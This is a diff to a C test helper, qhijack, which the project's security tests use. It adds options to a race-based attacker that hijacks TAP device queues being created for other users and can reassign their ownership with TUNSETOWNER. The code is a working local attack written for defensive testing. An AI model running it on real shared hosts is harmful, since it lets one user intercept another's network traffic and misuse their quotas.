@@ -2,7 +2,7 @@
 /* Copyright (C) 2026 The bridge-helper authors */
 /* qhijack: the queue-hijack attacker of SECURITY.md, for tests/race.bats.
  *
- *   qhijack [--spin=N] [--seconds=S] [--max=M]
+ *   qhijack [--spin=N] [--give=UID] [--once] [--seconds=S] [--max=M]
  *
  * Run as a user who may open /dev/net/tun. Tries to attach a queue to TAPs
  * that other users' launches are making, the two ways a local user can:
@@ -14,10 +14,13 @@
  *  - spinning (--spin=N): TUNSETIFF in a loop on the names the kernel's
  *    "tap%d" would give next, tap0 .. tap<N-1>.
  * Every queue it gets it keeps (up to M, default 1024), as an attacker who
- * wants the victim's traffic would. It prints "ready pid=PID" once it
- * watches (PID: the one to send SIGTERM to), one
- * "attached NAME" line per queue it got, and at the end (after S seconds,
- * default 60, or on SIGTERM/SIGINT):
+ * wants the victim's traffic would; with --give=UID it also makes UID the
+ * TAP's owner (TUNSETOWNER, which any queue holder may do: "gave NAME to
+ * UID"), as one who wants to charge UID's quota would. With --once it
+ * stops trying after its first queue (for tests that need exactly one).
+ * It prints "ready pid=PID" once it watches (PID: the one to send SIGTERM
+ * to), one "attached NAME" line per queue it got, and at the end (after S
+ * seconds, default 60, or on SIGTERM/SIGINT):
  *   attached=N alive=K tries=T eperm=A ebusy=B einval=C other=D
  * where ALIVE counts the queues still attached to a device at the end (a
  * queue whose device was deleted under it reports EBADFD). Exit 0. */
@@ -42,6 +45,8 @@ static volatile sig_atomic_t stop;
 static int held[1024];
 static unsigned nheld, maxheld = 1024;
 static unsigned long tries, eperm, ebusy, einval, other;
+static long give = -1;
+static bool once;
 
 static void on_signal(int sig)
 {
@@ -66,6 +71,8 @@ static int try_attach(const char *name, short flags)
 	if (ioctl(fd, TUNSETIFF, &ifr) == 0) {
 		printf("attached %s%s\n", name,
 		       flags & IFF_MULTI_QUEUE ? "" : " (single queue)");
+		if (give >= 0 && ioctl(fd, TUNSETOWNER, (unsigned long)give) == 0)
+			printf("gave %s to %ld\n", name, give);
 		fflush(stdout);
 		if (nheld < maxheld) {
 			held[nheld++] = fd;
@@ -91,6 +98,8 @@ static int try_attach(const char *name, short flags)
  * TUNSETIFF has even returned. */
 static void attack(const char *name)
 {
+	if (once && nheld > 0)
+		return;
 	for (int round = 0; round < 8; round++) {
 		if (try_attach(name, IFF_TAP | IFF_NO_PI | IFF_MULTI_QUEUE))
 			return;
@@ -186,10 +195,15 @@ int main(int argc, char **argv)
 			spin = arg_num(argv[i] + 7, "--spin");
 		else if (!strncmp(argv[i], "--seconds=", 10))
 			seconds = arg_num(argv[i] + 10, "--seconds");
+		else if (!strncmp(argv[i], "--give=", 7))
+			give = (long)arg_num(argv[i] + 7, "--give");
+		else if (!strcmp(argv[i], "--once"))
+			once = true;
 		else if (!strncmp(argv[i], "--max=", 6))
 			maxheld = (unsigned)arg_num(argv[i] + 6, "--max");
 		else {
-			fprintf(stderr, "usage: qhijack [--spin=N] [--seconds=S] [--max=M]\n");
+			fprintf(stderr, "usage: qhijack [--spin=N] [--give=UID] [--once] "
+				"[--seconds=S] [--max=M]\n");
 			return 2;
 		}
 	}
